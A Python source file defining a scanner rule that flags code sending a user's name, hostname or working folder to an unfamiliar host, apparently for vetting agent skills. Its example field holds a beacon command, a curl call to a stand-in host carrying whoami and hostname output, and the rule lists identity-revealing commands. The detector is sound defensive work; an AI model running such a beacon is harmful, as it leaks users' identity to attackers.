"""A beacon: who and where the user is goes to a stranger, unasked."""

import re
from collections.abc import Iterator

from clawft.scan.facts import Fact, Kind
from clawft.scan.ownership import is_foreign
from clawft.scan.rule import Hit, Rule
from clawft.scan.subject import Subject
from clawft.scan.vocabulary.hosts import host_of

__all__ = ["RULE"]

_COMMANDS = re.compile(r"^(whoami|hostname|id|uname|ifconfig|ip addr|ipconfig|pwd|logname|who|systeminfo)\b")
_VARIABLES = frozenset({"USER", "USERNAME", "LOGNAME", "HOSTNAME", "COMPUTERNAME", "HOME", "PWD"})


def check_identity_sent(subject: Subject) -> Iterator[Hit]:
    for sink in subject.of(Kind.SEND, Kind.FETCH):
        if not is_foreign(subject, sink.target):
            continue
        told = {one.target.split()[0] for one in subject.trace(sink) if _tells_who(one)}
        if len(told) >= 2:
            yield Hit(sink, f"{', '.join(sorted(told))} is sent to {host_of(sink.target)}", 0.75)


def _tells_who(fact: Fact) -> bool:
    if fact.kind is Kind.EXEC:
        return _COMMANDS.match(fact.target) is not None
    return fact.kind is Kind.ENV and fact.target in _VARIABLES


RULE = Rule(
    id="identity-sent",
    title="The user's name and machine are reported to a stranger",
    severity="critical",
    category="exfiltration",
    what="The name of the user, of the machine or of the working folder go together to a host that the skill does not "
    "speak of.",
    why="Such a beacon tells an attacker whom the skill reached, and is how most package attacks begin.",
    example='curl -s "https://t.example.net/i?u=$(whoami)&h=$(hostname)"',
    counter_example='echo "Report for $(whoami) on $(hostname)" > report.txt',
    fix="Remove the request, or say what is sent, where to and why, and ask first.",
    check=check_identity_sent,
    owasp="AST01",
    atlas="AML.T0025",
)
